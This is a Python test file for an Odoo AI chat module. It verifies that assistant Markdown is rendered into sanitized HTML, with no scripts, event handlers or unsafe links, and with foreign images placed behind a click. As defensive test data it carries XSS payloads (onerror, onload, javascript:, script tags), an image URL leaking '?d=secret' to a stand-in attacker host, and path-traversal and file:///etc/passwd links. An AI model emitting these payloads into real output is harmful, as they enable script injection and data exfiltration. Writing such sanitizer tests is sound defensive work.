"""Model text rendered inert (issue 11 point 3, case BR-32): what the model
writes is Markdown turned into sanitized HTML on the server
(engine/text/markdown_render.py): raw HTML shown as text, no script, no event
handler, no javascript:/data: link, foreign images behind a click, record
links annotated for the chat; and the routes and the stream hand it out as
``content_html`` for assistant messages."""
from lxml import html

from odoo.tests import HttpCase, TransactionCase, new_test_user, tagged

from ..engine.text.markdown_render import render_markdown
from .common import AgenticSetupMixin
from .sse_client import open_stream

BR_32_PAYLOADS = (
    '<img src=x onerror="window.__pwned=1">',
    '<svg onload="window.__pwned=2">',
    "[open](javascript:window.__pwned=3)",
    "![s](http://attacker.invalid/p.png?d=secret)",
    "<script>window.__pwned=4</script>",
)
BR_32_ANSWER = "\n\n".join([
    "Here is what you asked for.",
    *BR_32_PAYLOADS,
    "| Product | Qty |\n| --- | ---: |\n| Office Chair Black | 3 |\n| Large Cabinet | 1 |",
    "```python\nprint('<b>not bold</b>')\n```",
])


def parse(fragment):
    """The rendered fragment as an lxml tree under one ``<div>``."""
    return html.fragment_fromstring(fragment, create_parent="div")


@tagged("post_install", "-at_install")
class TestMarkdownRender(TransactionCase):

    def test_BR_32_model_output_renders_inert(self):
        rendered = render_markdown(BR_32_ANSWER)
        tree = parse(rendered)
        for tag in ("script", "svg", "img", "iframe", "object", "embed", "style"):
            self.assertFalse(tree.xpath(f"//{tag}"), f"a <{tag}> element survived: {rendered}")
        for element in tree.iter():
            for name, value in element.attrib.items():
                self.assertFalse(name.lower().startswith("on"), f"event handler {name}={value!r} survived")
                self.assertNotEqual(name.lower(), "style", "a style attribute survived")
                # What each attribute may hold depends on what it is: every rendered attribute is judged here.
                if name in ("href", "src"):
                    self.assertFalse(value.strip().lower().startswith(("javascript:", "data:", "vbscript:")),
                                     f"{name}={value!r} survived")
                    self.assertNotIn("attacker.invalid", value, f"{name}={value!r} would load from the attacker")
                elif "attacker.invalid" in value:
                    self.assertEqual((element.tag, name), ("button", "data-src"),
                                     "the foreign image's URL appears outside its placeholder")
        self.assertFalse(tree.xpath("//a[@href]"), "the javascript: link kept an href")
        placeholder = tree.xpath("//button[@class='o_agentic_ai_image_placeholder']")
        self.assertEqual(len(placeholder), 1, "the foreign image is not a click-to-load placeholder")
        self.assertEqual(placeholder[0].get("type"), "button")
        self.assertEqual(placeholder[0].get("data-src"), "http://attacker.invalid/p.png?d=secret")
        self.assertEqual(placeholder[0].get("data-alt"), "s")
        self.assertIn("attacker.invalid", placeholder[0].text_content())
        text = tree.text_content()
        for raw in ('<img src=x onerror="window.__pwned=1">', '<svg onload="window.__pwned=2">',
                    "<script>window.__pwned=4</script>", "[open](javascript:window.__pwned=3)"):
            self.assertIn(raw, text, "raw HTML or the refused link is not shown as text")
        self.assertIn("&lt;script&gt;", rendered, "the script tag is not escaped")
        self.assertEqual([th.text_content() for th in tree.xpath("//table/thead/tr/th")], ["Product", "Qty"])
        self.assertEqual([[td.text_content() for td in tr.xpath("td")] for tr in tree.xpath("//table/tbody/tr")],
                         [["Office Chair Black", "3"], ["Large Cabinet", "1"]])
        code = tree.xpath("//pre/code")
        self.assertEqual(len(code), 1, "the fenced code block is not a <pre><code>")
        self.assertEqual(code[0].text_content(), "print('<b>not bold</b>')\n")
        self.assertEqual(code[0].get("class"), "language-python")
        self.assertFalse(tree.xpath("//pre//b"), "HTML inside the code block became markup")

    def test_data_image_is_dropped(self):
        tree = parse(render_markdown("before ![pixel](data:image/png;base64,iVBORw0KGgo=) after"))
        self.assertFalse(tree.xpath("//img | //button"))
        self.assertNotIn("data:", html.tostring(tree, encoding="unicode"))
        self.assertEqual(" ".join(tree.text_content().split()), "before after")

    def test_image_on_this_odoo_is_kept_other_paths_wait_for_a_click(self):
        tree = parse(render_markdown("![avatar](/web/image/res.partner/3/avatar_128)\n\n![out](/web/session/logout)"))
        images = tree.xpath("//img")
        self.assertEqual([(i.get("src"), i.get("alt")) for i in images],
                         [("/web/image/res.partner/3/avatar_128", "avatar")])
        self.assertEqual(tree.xpath("//button/@data-src"), ["/web/session/logout"],
                         "an image of a route that acts (log out) loads without a click")

    def test_protocol_relative_image_is_foreign(self):
        tree = parse(render_markdown("![x](//attacker.invalid/p.png)"))
        self.assertFalse(tree.xpath("//img"))
        self.assertEqual(tree.xpath("//button/@data-src"), ["//attacker.invalid/p.png"])

    def test_record_link_is_annotated(self):
        tree = parse(render_markdown("I created [S00025](/odoo/sale.order/25) and [a menu](/odoo/sales)."))
        record, menu = tree.xpath("//a")
        self.assertEqual(dict(record.attrib), {
            "href": "/odoo/sale.order/25", "class": "o_agentic_ai_record_link",
            "data-res-model": "sale.order", "data-res-id": "25"})
        self.assertEqual(record.text, "S00025")
        self.assertEqual(dict(menu.attrib), {"href": "/odoo/sales"}, "a path that is not a record was annotated")

    def test_external_link_opens_in_a_new_tab_without_referrer(self):
        tree = parse(render_markdown('[docs](https://www.odoo.com/documentation "Odoo") and <https://example.com/x>'))
        links = tree.xpath("//a")
        self.assertEqual(len(links), 2)
        for link in links:
            self.assertEqual(link.get("target"), "_blank")
            self.assertEqual(link.get("rel"), "noopener noreferrer nofollow")
        self.assertEqual(links[0].get("title"), "Odoo")

    def test_mailto_kept_other_schemes_inert(self):
        tree = parse(render_markdown("[write](mailto:sales@example.com) [ftp](ftp://example.com/f) "
                                     "[vb](vbscript:msgbox) [file](file:///etc/passwd) [back](/\\evil.example)"))
        self.assertEqual([(a.get("href"), a.get("target")) for a in tree.xpath("//a")],
                         [("mailto:sales@example.com", None)])
        self.assertIn("ftp", tree.text_content(), "the refused link's text disappeared")

    def test_local_links_only_to_the_web_client_and_files(self):
        """A link written into a record may not log the reader out or open
        the database manager: only /odoo pages and Odoo's files stay links,
        and no dot segment (plain or percent-encoded) leads out of them."""
        text = ("[ok](/odoo/sales) [file](/web/content/12) [out](/web/session/logout) [db](/web/database/manager) "
                "[up](/odoo/../web/session/logout) [up2](/odoo/%2e%2e/web/session/logout) [rel](sales) "
                "[q](?debug=assets)")
        tree = parse(render_markdown(text))
        self.assertEqual([a.get("href") for a in tree.xpath("//a")], ["/odoo/sales", "/web/content/12"])
        for label in ("out", "db", "up", "up2", "rel", "q"):
            self.assertIn(label, tree.text_content(), f"the text of the refused link {label} disappeared")

    def test_same_origin_links_to_state_changing_routes_are_inert(self):
        """Issue 23 point 7: a link to this Odoo written with its host, or a
        path that opens an action (a server action may run when opened),
        is text, not a link; this Odoo's files and records stay."""
        hosts = frozenset({"erp.example.com"})
        text = ("[out](https://erp.example.com/web/session/logout) [act](/odoo/action-base.action_server_x) "
                "[act2](https://ERP.example.com/odoo/action-12) [file](https://erp.example.com/web/content/12) "
                "[rec](https://erp.example.com/odoo/sale.order/3) [other](https://other.example.org/web/session/x) "
                "![i](https://erp.example.com/web/session/logout) ![f](https://erp.example.com/web/image/7)")
        tree = parse(render_markdown(text, local_hosts=hosts))
        self.assertEqual([a.get("href") for a in tree.xpath("//a")], [
            "https://erp.example.com/web/content/12", "https://erp.example.com/odoo/sale.order/3",
            "https://other.example.org/web/session/x"])
        for label in ("out", "act", "act2"):
            self.assertIn(label, tree.text_content())
        self.assertFalse(tree.xpath("//*[contains(@data-src, 'logout')]"), "no placeholder loads the logout route")
        answer = self.env["agentic.ai.thread"].create({
            "agent_id": self.env.ref("agentic_ai.agent_general_assistant").id, "user_id": self.env.uid,
            "name": "render"}).add_assistant_message(
            f"[out]({self.env['ir.config_parameter'].sudo().get_param('web.base.url')}/web/session/logout)")
        self.assertFalse(parse(answer.content_html).xpath("//a"), "the database's own base URL counts as local")

    def test_empty_content(self):
        for value in (None, "", "   \n  "):
            self.assertEqual(render_markdown(value), "", repr(value))

    def test_long_answer_renders(self):
        row = "| order | **bold** | *it* | [link](https://example.com) | `code` |\n"
        text = "| a | b | c | d | e |\n|---|---|---|---|---|\n" + row * 400
        text = text[:20000]
        self.assertEqual(len(text), 20000)
        tree = parse(render_markdown(text))
        self.assertGreater(len(tree.xpath("//table/tbody/tr")), 250)
        self.assertGreater(len(tree.xpath("//strong")), 250)

    def test_nested_and_unbalanced_markdown(self):
        text = ("> > > - *a **b* c**\n> > >   1. [unclosed](link\n\n**never closed\n\n"
                "```\nfence never closed <b>x</b>\n\n- a\n  - b\n    - c\n" + "> " * 60 + "deep")
        tree = parse(render_markdown(text))
        self.assertEqual(len(tree.xpath("/div/blockquote/blockquote/blockquote")), 1)
        self.assertIn("**never closed", tree.text_content())
        self.assertIn("fence never closed <b>x</b>", tree.xpath("//pre/code")[0].text_content())
        self.assertFalse(tree.xpath("//b"))

    def test_content_html_only_for_assistant_rows(self):
        thread = self.env["agentic.ai.thread"].create({
            "agent_id": self.env.ref("agentic_ai.agent_general_assistant").id, "user_id": self.env.uid,
            "name": "render"})
        user = thread.add_user_message("**hello** <b>there</b>")
        answer = thread.add_assistant_message("**Done**: [S1](/odoo/sale.order/1) <i>x</i>")
        self.assertFalse(user.content_html, "a user's message got HTML")
        tree = parse(answer.content_html)
        self.assertEqual(tree.xpath("//strong/text()"), ["Done"])
        self.assertEqual(tree.xpath("//a/@data-res-id"), ["1"])
        self.assertIn("<i>x</i>", tree.text_content())
        self.assertFalse(thread.add_assistant_message("").content_html)


@tagged("post_install", "-at_install")
class TestMarkdownRoutes(AgenticSetupMixin, HttpCase):
    """``content_html`` as the chat routes and the stream hand it out."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_agentic()
        cls.user = new_test_user(cls.env, "render_user",
                                 groups="base.group_user,agentic_ai.group_agentic_ai_user")

    def setUp(self):
        super().setUp()
        self.authenticate("render_user", "render_user")
        self.thread = self.make_jsonrpc_request("/agentic_ai/thread/create", {"agent_id": self.agent.id})

    def test_thread_messages_route_returns_content_html(self):
        self.script({"content": BR_32_ANSWER})
        self.make_jsonrpc_request("/agentic_ai/chat/send", {"thread_id": self.thread["id"], "message": "show me"})
        answer = self.make_jsonrpc_request("/agentic_ai/thread/messages", {"thread_id": self.thread["id"]})
        rows = {row["role"]: row for row in answer["messages"]}
        self.assertIsNone(rows["user"]["content_html"], "the user's message got HTML")
        assistant = rows["assistant"]
        self.assertEqual(assistant["content"], BR_32_ANSWER, "the raw text changed")
        tree = parse(assistant["content_html"])
        self.assertFalse(tree.xpath("//script | //svg | //img"))
        self.assertEqual(len(tree.xpath("//table")), 1, "content_html was flattened to text")
        self.assertEqual(tree.xpath("//button/@data-src"), ["http://attacker.invalid/p.png?d=secret"])
        system = self.scenario.chat_requests()[0]["messages"][0]["content"]
        self.assertIn("[display name](/odoo/<model>/<id>)", system, "the model is not told how to link records")

    def test_stream_message_event_carries_content_html(self):
        self.script({"content": "See [S00025](/odoo/sale.order/25)."})
        with open_stream(self, {"thread_id": self.thread["id"], "message": "go"}) as stream:
            events = [event for event in stream.events() if event.name == "message"]
        by_role = {event.data["role"]: event.data for event in events}
        self.assertIsNone(by_role["user"]["content_html"], "a user's text is never rendered (one row shape: null)")
        tree = parse(by_role["assistant"]["content_html"])
        self.assertEqual(tree.xpath("//a/@data-res-model"), ["sale.order"])
